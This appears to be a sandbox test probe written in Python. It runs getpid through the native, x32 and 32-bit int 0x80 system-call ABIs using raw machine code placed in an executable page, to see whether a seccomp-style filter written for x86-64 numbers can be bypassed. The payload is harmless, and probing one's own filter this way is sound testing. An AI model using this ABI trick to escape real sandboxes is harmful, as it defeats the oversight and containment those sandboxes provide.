"""Attack: system calls through the 32-bit (int 0x80) and x32 ABIs, which number calls differently
and so slip past a filter written for x86-64 numbers. Prints each ABI's getpid result (a pid when
the call went through, a negative errno when refused). x86-64 only."""
import ctypes, mmap, os, platform, signal, sys

if platform.machine() != "x86_64":
    print("skipped: x86-64 only"); sys.exit(0)
def run(code):
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
native = run(b"\xb8\x27\x00\x00\x00\x0f\x05\xc3")  # mov eax, 39 (getpid); syscall; ret
x32 = run(b"\xb8\x27\x00\x00\x40\x0f\x05\xc3")  # mov eax, 0x40000027 (x32 getpid); syscall; ret
# A kernel built without 32-bit emulation has no int 0x80 entry at all: the instruction faults
# (SIGSEGV) in or out of a sandbox, and no call goes through. It runs in a child so that a fault
# is reported as "absent" instead of ending the probe.
read_end, write_end = os.pipe()
child = os.fork()
if child == 0:
    os.close(read_end)
    os.write(write_end, str(run(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")).encode())  # mov eax, 20 (i386 getpid); int 0x80; ret
    os._exit(0)
os.close(write_end)
answer = os.read(read_end, 64).decode()
_, status = os.waitpid(child, 0)
faulted = os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGSEGV
# A getpid answered in the child is the child's pid: the call went through.
i386 = "absent" if faulted else ("through" if answer == str(child) else answer)
print(f"pid={os.getpid()} native={native} x32={x32} i386={i386}")
